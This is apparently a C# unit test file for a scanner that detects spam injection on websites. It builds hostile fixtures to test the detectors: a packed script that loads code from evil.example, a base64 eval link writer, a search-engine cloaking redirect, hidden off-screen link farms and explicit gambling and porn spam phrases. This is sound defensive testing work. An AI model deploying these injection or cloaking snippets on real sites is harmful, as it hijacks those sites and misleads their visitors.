using Scanner.Core.Analyzers;
using Scanner.Core.Model;
using Scanner.Core.Rules;
using static Scanner.Core.Tests.Analyzers.Snapshots;

namespace Scanner.Core.Tests.Analyzers;

/// <summary>The structural detectors on hand-built snapshots: each technique, and the legitimate look-alikes.</summary>
public sealed class StructuralAnalyzerTests
{
    private static readonly LinkPolicy Policy = new()
    {
        AllowedDomains = LinkPolicy.Set(["gov.cn"]),
        DeniedDomains = LinkPolicy.Set(["bad-casino.com"]),
        SuspiciousTlds = LinkPolicy.Set(["xyz", "top"]),
    };

    private static readonly RuleSet Rules = RuleSetWith(Policy);

    private static PageLink L(string href, string text, Visibility? visibility = null, string container = "div#links") =>
        new($"{container} > a", href, text, visibility ?? Visibility.Visible, new Box(0, 0, 50, 20), null, container);

    private static List<Finding> Run(IPageAnalyzer analyzer, PageSnapshot page) => analyzer.Analyze(page, Rules).ToList();

    // ---- hidden.external-links -------------------------------------------------------------------------------

    [Fact]
    public void Hidden_external_links_with_spam_anchors_are_critical_and_explain_themselves()
    {
        var hidden = Visibility.HiddenBecause("hidden-ancestor (off-screen on div#x)");
        var finding = Assert.Single(Run(new HiddenContentAnalyzer(), Page(links:
        [
            L("https://a-casino.example/", "澳门百家乐", hidden),
            L("https://b.example/", "无码视频", hidden),
        ])));
        Assert.Equal(HiddenContentAnalyzer.ExternalLinksRule, finding.RuleId);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Equal("div#links", finding.Selector);
        Assert.True(finding.Hidden);
        Assert.Contains("澳门百家乐 → https://a-casino.example/", finding.Evidence);
        Assert.Contains(finding.Reasons, r => r.Contains("spam terms"));
        Assert.Contains(finding.Reasons, r => r.Contains("off-screen"));
    }

    [Fact]
    public void A_deliberately_hidden_farm_without_any_other_signal_is_medium()
    {
        var hidden = Visibility.HiddenBecause("off-screen");
        var links = Enumerable.Range(1, 6).Select(i => L($"https://site{i}.example/", $"站点{i}", hidden)).ToArray();
        var finding = Assert.Single(Run(new HiddenContentAnalyzer(), Page(links: links)));
        Assert.Equal(Severity.Medium, finding.Severity); // big sites hide menus of their sister sites; see RealWorldStructureTests for the corroborated case
    }

    [Fact]
    public void A_collapsed_menu_of_external_links_stays_below_high()
    {
        var menu = Visibility.HiddenBecause("hidden-ancestor (display-none on ul.dropdown)");
        var links = Enumerable.Range(1, 6).Select(i => L($"https://partner{i}.example/", $"合作网站{i}", menu)).ToArray();
        Assert.True(Run(new HiddenContentAnalyzer(), Page(links: links)).Single().Severity < Severity.High);
        // details and tabs: one or two hidden external links are low
        var details = Visibility.HiddenBecause("closed-details");
        Assert.Equal(Severity.Low, Run(new HiddenContentAnalyzer(), Page(links: [L("https://partner.example/", "合作", details)])).Single().Severity);
    }

    [Fact]
    public void Hidden_same_site_navigation_and_allowed_domains_are_nothing()
    {
        var hidden = Visibility.HiddenBecause("off-screen");
        Assert.Empty(Run(new HiddenContentAnalyzer(), Page(links:
        [
            L("https://www.yongzhou.gov.cn/zwgk/", "政务公开", hidden),
            L("https://news.yongzhou.gov.cn/a.html", "新闻", hidden),
            L("https://www.hunan.gov.cn/", "湖南省人民政府", hidden),
            L("#main", "跳到主要内容", Visibility.HiddenBecause("clipped")),
        ])));
    }

    [Fact]
    public void A_page_served_from_a_preview_host_treats_its_production_domain_as_its_own()
    {
        // 12 visible links to the production domain make it the page's own site; hidden links there are navigation.
        var own = Enumerable.Range(1, 12).Select(i => L($"https://www.example-news.com/{i}.html", $"新闻{i}", container: "ul.nav")).ToList();
        own.Add(L("https://www.example-news.com/more.html", "更多", Visibility.HiddenBecause("off-screen"), "div.slide"));
        Assert.Empty(Run(new HiddenContentAnalyzer(), Page(links: own)));
        // A hidden farm never becomes "own", however many links it has.
        var farm = Enumerable.Range(1, 30).Select(i => L($"https://spam.example/{i}", $"链接{i}", Visibility.HiddenBecause("off-screen"), "div.farm"));
        Assert.NotEmpty(Run(new HiddenContentAnalyzer(), Page(links: farm)));
    }

    // ---- linkfarm.block ------------------------------------------------------------------------------------

    [Fact]
    public void A_visible_friend_links_directory_is_low()
    {
        var links = Enumerable.Range(1, 10).Select(i => L($"https://org{i}.example/", $"友情链接{i}", container: "div.footer")).ToArray();
        var finding = Assert.Single(Run(new LinkFarmAnalyzer(), Page(links: links)));
        Assert.Equal(LinkFarmAnalyzer.BlockRule, finding.RuleId);
        Assert.Equal(Severity.Low, finding.Severity);
    }

    [Fact]
    public void A_block_of_links_with_spam_anchors_and_suspicious_tlds_is_high_and_critical_when_hidden()
    {
        PageLink[] Farm(Visibility v) => Enumerable.Range(1, 10).Select(i =>
            L($"https://s{i}.spam{i}.{(i % 2 == 0 ? "xyz" : "top")}/", i % 3 == 0 ? "百家乐" : $"网站{i}", v, "div.footer")).ToArray();
        Assert.Equal(Severity.High, Run(new LinkFarmAnalyzer(), Page(links: Farm(Visibility.Visible))).Single().Severity);
        Assert.Equal(Severity.Critical, Run(new LinkFarmAnalyzer(), Page(links: Farm(Visibility.HiddenBecause("display-none")))).Single().Severity);
    }

    [Fact]
    public void Few_links_or_few_sites_are_no_farm()
    {
        var sameSites = Enumerable.Range(1, 12).Select(i => L($"https://a{i % 2}.example/p{i}", $"链接{i}")).ToArray();
        Assert.Empty(Run(new LinkFarmAnalyzer(), Page(links: sameSites)));
    }

    [Fact]
    public void The_real_denied_domain_list_imports_and_corroborates()
    {
        var list = SharedFolder.Path("wordlists", "非法网址.txt");
        var folder = Directory.CreateTempSubdirectory("scanner-policy-");
        try
        {
            // The policy file names the list by a relative path, as a user would; the list itself stays in ../shared.
            var relative = Path.GetRelativePath(folder.FullName, list);
            var yaml = Path.Combine(folder.FullName, "policy.yaml");
            File.WriteAllText(yaml, $"kind: link-policy\ndeniedDomainLists: [\"{relative}\"]\n");
            var rules = RuleSetLoader.Load(new RuleSources { RulePaths = [yaml] });
            Assert.True(rules.LinkPolicy.DeniedDomains.Count > 14_000, $"only {rules.LinkPolicy.DeniedDomains.Count} domains imported");
            Assert.NotNull(rules.LinkPolicy.DeniedDomainFor("www.0073d.cn"));
            Assert.Equal("0073d.cn", rules.LinkPolicy.DeniedDomainFor("news.0073d.cn"));

            var page = Page(links: Enumerable.Range(0, 8).Select(i => L(i == 0 ? "http://www.0073d.cn/" : $"https://friend{i}.example/", $"链接{i}")).ToArray());
            var farm = Assert.Single(new LinkFarmAnalyzer().Analyze(page, rules));
            Assert.Equal(Severity.High, farm.Severity);
            Assert.Contains(farm.Reasons, r => r.Contains("0073d.cn"));
            Assert.Contains(new LinkPolicyAnalyzer().Analyze(page, rules), f => f.RuleId == LinkPolicyAnalyzer.DeniedDomainRule);
        }
        finally { folder.Delete(true); }
    }

    // ---- title.rewritten / meta.spam -----------------------------------------------------------------------

    [Fact]
    public void A_spam_title_replaced_by_a_clean_one_for_visitors_is_critical()
    {
        var page = Page(title: "永州市人民政府") with { RawTitle = "澳门百家乐_无码视频_永州市人民政府" };
        var finding = Assert.Single(Run(new TitleHijackAnalyzer(), page));
        Assert.Equal(TitleHijackAnalyzer.RewrittenRule, finding.RuleId);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("澳门百家乐", finding.Evidence);
    }

    [Fact]
    public void A_harmless_retitle_is_low()
    {
        var page = Page(title: "(3) 永州市人民政府") with { RawTitle = "永州市人民政府" };
        Assert.Equal(Severity.Low, Run(new TitleHijackAnalyzer(), page).Single().Severity);
        Assert.Empty(Run(new TitleHijackAnalyzer(), Page(title: "永州市人民政府") with { RawTitle = " 永州市人民政府\n" }));
    }

    [Fact]
    public void Meta_keywords_stuffed_with_spam_are_critical_a_single_weak_term_is_its_own_severity()
    {
        var stuffed = Page() with { Meta = [new MetaTag("keywords", null, null, "百家乐,无码视频,婷婷五月,永州")] };
        Assert.Equal(Severity.Critical, Run(new TitleHijackAnalyzer(), stuffed).Single().Severity);
        var news = Page() with { Meta = [new MetaTag("description", null, null, "公安机关严厉打击赌博违法犯罪")] };
        Assert.Equal(Severity.Medium, Run(new TitleHijackAnalyzer(), news).Single().Severity);
    }

    // ---- script.* --------------------------------------------------------------------------------------------

    private static PageSnapshot WithScript(string inline) => Page() with { Scripts = [new PageScript(null, inline, "body > script")] };

    [Fact]
    public void A_script_writing_hidden_external_links_is_critical()
    {
        var finding = Assert.Single(Run(new ScriptInjectionAnalyzer(), WithScript(
            "document.write('<div style=\"position:absolute;left:-9999px\"><a href=\"https://spam1.example/\">x</a><a href=\"https://spam2.example/\">y</a></div>');")));
        Assert.Equal(ScriptInjectionAnalyzer.WritesLinksRule, finding.RuleId);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains(finding.Reasons, r => r.Contains("hides them"));
    }

    [Fact]
    public void A_script_shared_by_pages_of_two_sites_is_judged_on_each_page_by_that_page()
    {
        // The same text on every page (a site's shared script): read once, but which links go to another site, and the
        // finding's page, are each page's own. Here the second page is spam1.example itself.
        var script = "document.write('<div style=\"position:absolute;left:-9999px\"><a href=\"https://spam1.example/\">x</a><a href=\"https://spam2.example/\">y</a></div>'); // shared "
            + Guid.NewGuid();
        var onGovSite = WithScript(script);
        var onSpamSite = WithScript(script) with { RequestedUrl = "https://spam1.example/page.html", FinalUrl = "https://spam1.example/page.html" };
        foreach (var _ in Enumerable.Range(0, 2))
        {
            var gov = Assert.Single(Run(new ScriptInjectionAnalyzer(), onGovSite));
            Assert.Equal(onGovSite.FinalUrl, gov.Url);
            Assert.Equal("spam1.example, spam2.example", gov.MatchedTerm);
            var spam = Assert.Single(Run(new ScriptInjectionAnalyzer(), onSpamSite));
            Assert.Equal(onSpamSite.FinalUrl, spam.Url);
            Assert.Equal("spam2.example", spam.MatchedTerm);
        }
    }

    [Fact]
    public void A_base64_encoded_link_writer_is_found_through_its_encoding()
    {
        var payload = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(
            "document.write('<a href=\"https://casino.example/\">百家乐</a><a href=\"https://b.example/\">b</a><a href=\"https://c.example/\">c</a>')"));
        var finding = Run(new ScriptInjectionAnalyzer(), WithScript($"eval(atob('{payload}'));")).Single();
        Assert.Equal(ScriptInjectionAnalyzer.WritesLinksRule, finding.RuleId);
        Assert.Equal(Severity.Critical, finding.Severity); // spam terms in the written markup
        Assert.Contains("decodes to", finding.Evidence);
    }

    [Fact]
    public void A_decoded_script_is_shown_as_its_meaningful_lines_around_the_call_that_does_harm()
    {
        // A beautified payload: 400+ characters of blank lines and braces before the call that matters.
        var filler = string.Concat(Enumerable.Range(0, 30).Select(i => $"var v{i} = {{\n\n}};\n\n}}\n"));
        var script = filler + "var target = 'https://casino.example/';\n\n}\nwindow.location.href = target;\n}\n\n" + filler;
        var payload = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(script));
        var findings = Run(new ScriptInjectionAnalyzer(), WithScript($"eval(atob('{payload}'));"));

        var evidence = Assert.Single(findings.Select(f => f.Evidence).Distinct());
        var decoded = evidence[(evidence.IndexOf("decodes to: ", StringComparison.Ordinal) + "decodes to: ".Length)..];
        Assert.Contains("window.location.href = target;", decoded);
        Assert.Contains("var target = 'https://casino.example/';", decoded);
        Assert.DoesNotContain("\n\n", decoded); // no blank lines
        Assert.DoesNotMatch(@"(?m)^\s*[{}();]+\s*$", decoded); // no lines of braces alone
        Assert.True(decoded.Length < 400, decoded);
    }

    [Fact]
    public void A_redirect_for_visitors_from_search_engines_is_critical()
    {
        var finding = Run(new ScriptInjectionAnalyzer(), WithScript(
            "var r=document.referrer;if(r.indexOf('baidu')>-1||r.indexOf('sogou')>-1){window.location.href='https://spam.example/';}")).Single();
        Assert.Equal(ScriptInjectionAnalyzer.CloakingRule, finding.RuleId);
        Assert.Equal(Severity.Critical, finding.Severity);
    }

    [Fact]
    public void A_packed_script_is_unpacked()
    {
        // Dean Edwards' packer output for: document.write('<script src="https://evil.example/x.js"></script>')
        const string packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1(\\'<2 3=\"4://5.6/7.8\"></2>\\')',9,9,'document|write|script|src|https|evil|example|x|js'.split('|'),0,{}))";
        var layers = ScriptDecoder.Layers(packed);
        Assert.Contains(layers, l => l.Contains("document.write('<script src=\"https://evil.example/x.js\"></script>')"));
        var finding = Run(new ScriptInjectionAnalyzer(), WithScript(packed)).Single();
        Assert.Equal(ScriptInjectionAnalyzer.ObfuscatedRule, finding.RuleId);
        Assert.Equal(Severity.High, finding.Severity);
    }

    [Fact]
    public void Ordinary_scripts_are_not_reported()
    {
        Assert.Empty(Run(new ScriptInjectionAnalyzer(), WithScript(
            "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?abc';document.head.appendChild(hm);})();" +
            "if(/baiduboxapp/i.test(navigator.userAgent)){document.body.className+=' in-app';}" +
            "document.getElementById('year').innerHTML='2025';")));
    }

    [Theory]
    [InlineData("https://jquery-code.su/jquery.min.js", Severity.High)]
    [InlineData("https://g-analytics.com/ga.js", Severity.High)]
    [InlineData("https://cdn.bad-casino.com/x.js", Severity.Critical)]
    [InlineData("https://stats.tracker.xyz/x.js", Severity.Medium)]
    public void Script_hosts_that_imitate_or_are_denied(string src, Severity expected)
    {
        var page = Page() with { Scripts = [new PageScript(src, null, "head > script")] };
        Assert.Equal(expected, Run(new ScriptInjectionAnalyzer(), page).Single(f => f.Severity > Severity.Info).Severity);
    }

    [Fact]
    public void Genuine_library_hosts_are_only_noted()
    {
        var page = Page() with { Scripts = [new PageScript("https://code.jquery.com/jquery.min.js", null, "s1"), new PageScript("https://www.googletagmanager.com/gtag/js", null, "s2")] };
        Assert.All(Run(new ScriptInjectionAnalyzer(), page), f => Assert.Equal(Severity.Info, f.Severity));
    }

    // ---- redirect.cross-domain / frame.hidden-external -------------------------------------------------------

    [Fact]
    public void Meta_refresh_and_script_navigation_to_other_sites()
    {
        var meta = Page() with { Meta = [new MetaTag(null, "refresh", null, "0;url=https://spam.top/")] };
        var finding = Assert.Single(Run(new RedirectAnalyzer(), meta));
        Assert.Equal(RedirectAnalyzer.CrossDomainRule, finding.RuleId);
        Assert.Equal(Severity.Critical, finding.Severity); // suspicious TLD
        var navigated = Page() with { AttemptedNavigations = ["https://elsewhere.example/landing"] };
        Assert.Equal(Severity.Critical, Run(new RedirectAnalyzer(), navigated).Single().Severity); // cross-site, whatever the target
        var sameSite = Page() with { AttemptedNavigations = ["https://www.yongzhou.gov.cn/index.html"], Meta = [new MetaTag(null, "refresh", null, "300")] };
        Assert.Empty(Run(new RedirectAnalyzer(), sameSite));
        // Browsers read the delay as digits and dots: "0.1;url=…" leaves at once.
        var decimalDelay = Page() with { Meta = [new MetaTag(null, "refresh", null, "0.1;url=http://dafa6619-cc.example/")] };
        Assert.Equal("dafa6619-cc.example", Assert.Single(Run(new RedirectAnalyzer(), decimalDelay)).MatchedTerm);
    }

    [Fact]
    public void Hidden_or_tiny_external_frames()
    {
        var page = Page() with
        {
            Frames =
            [
                new PageFrame("iframe:nth-of-type(1)", "https://ads.example/t.html", Visibility.Visible, new Box(0, 0, 1, 1)),
                new PageFrame("iframe:nth-of-type(2)", "https://x.bad-casino.com/", Visibility.HiddenBecause("display-none"), new Box(0, 0, 0, 0)),
                new PageFrame("iframe:nth-of-type(3)", "https://video.example/player", Visibility.Visible, new Box(0, 0, 640, 360)),
                new PageFrame("iframe:nth-of-type(4)", "https://www.yongzhou.gov.cn/x", Visibility.HiddenBecause("display-none"), new Box(0, 0, 0, 0)),
            ],
        };
        var findings = Run(new RedirectAnalyzer(), page);
        Assert.Equal([Severity.Medium, Severity.High], findings.Select(f => f.Severity));
    }

    // ---- document.outside-html -----------------------------------------------------------------------------

    [Fact]
    public void Content_after_the_closing_html_tag()
    {
        var spam = Page() with { ServedHtml = "<!DOCTYPE html><html><body>ok</body></html>\n<div><a href=\"https://spam.example/\">百家乐</a></div>" };
        var finding = Assert.Single(Run(new OutsideDocumentAnalyzer(), spam));
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Equal(1, finding.Line);
        var links = Page() with { ServedHtml = "<a href=\"https://spam.example/\">link</a>\n<html><body>ok</body></html>" };
        Assert.Equal(Severity.High, Run(new OutsideDocumentAnalyzer(), links).Single().Severity);
        var clean = Page() with { ServedHtml = "\uFEFF<!DOCTYPE html>\n<!-- saved from url=(0041)https://x/ -->\n<html><body>ok</body></html>\n<!-- cache 2ms -->\n" };
        Assert.Empty(Run(new OutsideDocumentAnalyzer(), clean));
        var conditional = Page() with { ServedHtml = "<!DOCTYPE html>\n<!--[if lt IE 9]><html class=\"ie\"><![endif]-->\n<!--[if gt IE 8]><!--><html><!--<![endif]--><body>ok</body></html>" };
        Assert.Empty(Run(new OutsideDocumentAnalyzer(), conditional));
    }

    // ---- signature.* ---------------------------------------------------------------------------------------

    [Fact]
    public void Japanese_blocks_on_a_Chinese_page()
    {
        var page = Page(blocks:
        [
            Block("永州市教育工作会议召开，会议总结了过去一年全市教育工作取得的成绩，部署了今年的重点任务，要求各地各部门认真落实。"),
            Block("激安通販サイト ブランド財布 コピー 最新作 送料無料 人気アイテム", hidden: true, selector: "div#jp"),
        ]) with { Language = "zh-CN" };
        var finding = Assert.Single(Run(new MassSpamSignatureAnalyzer(), page));
        Assert.Equal(MassSpamSignatureAnalyzer.KanaRule, finding.RuleId);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Equal("div#jp", finding.Selector);
    }

    [Fact]
    public void A_Japanese_page_is_not_a_Japanese_block_on_a_Chinese_page()
    {
        var page = Page(blocks: [Block("東京の天気は晴れのち曇り、午後からは雨が降るでしょう。お出かけの際は傘をお持ちください。")]) with { Language = "ja" };
        Assert.Empty(Run(new MassSpamSignatureAnalyzer(), page));
    }

    [Fact]
    public void Pinyin_annotations_are_the_mirror_signature()
    {
        var page = Page(blocks: [Block("4月24日，永州市教育工作會(huì)議召開(kāi)。會(huì)議總結(jié)了全市教育建設(shè)成績(jì)。")]);
        var finding = Assert.Single(Run(new MassSpamSignatureAnalyzer(), page));
        Assert.Equal(MassSpamSignatureAnalyzer.PinyinRule, finding.RuleId);
        Assert.Equal(Severity.Medium, finding.Severity);
        // Abbreviations in brackets are not pinyin.
        Assert.Empty(Run(new MassSpamSignatureAnalyzer(), Page(blocks: [Block("人民币(RMB)、美国(US)、世界贸易组织(WTO)、国内生产总值(GDP)、消费者物价指数(CPI)")])));
    }

    [Fact]
    public void A_comma_separated_list_of_spam_phrases_is_critical_a_news_sentence_is_not()
    {
        var page = Page(blocks: [Block("亚洲综合性色AⅤ一区二区三区,婷婷五月综合国产激情,人妻系列精品无码视频在线,天天都在看高清无码百家乐", selector: "li:nth-of-type(5)")]);
        var finding = Assert.Single(Run(new MassSpamSignatureAnalyzer(), page));
        Assert.Equal(MassSpamSignatureAnalyzer.PhraseListRule, finding.RuleId);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.StartsWith("亚洲综合性色AⅤ", finding.Evidence);
        Assert.Empty(Run(new MassSpamSignatureAnalyzer(), Page(blocks: [Block("公安机关严厉打击赌博、色情等违法犯罪活动，维护社会治安稳定，保障人民群众合法权益。")])));
    }

    [Fact]
    public void Every_rule_has_a_descriptor_with_help()
    {
        var ids = PageAnalysis.DefaultAnalyzers.SelectMany(a => a.DescribeRules(Rules)).ToList();
        Assert.Equal(ids.Count, ids.Select(d => d.Id).Distinct().Count());
        Assert.All(ids, d => Assert.False(string.IsNullOrWhiteSpace(d.Help)));
        foreach (var id in new[] { "hidden.external-links", "linkfarm.block", "title.rewritten", "meta.spam", "script.writes-links", "script.obfuscated",
                     "script.search-engine-cloaking", "script.skimmer", "script.external-host", "redirect.cross-domain", "frame.hidden-external",
                     "document.outside-html", "signature.kana-block", "signature.pinyin-annotations", "signature.spam-phrase-list" })
            Assert.Contains(ids, d => d.Id == id);
    }
}
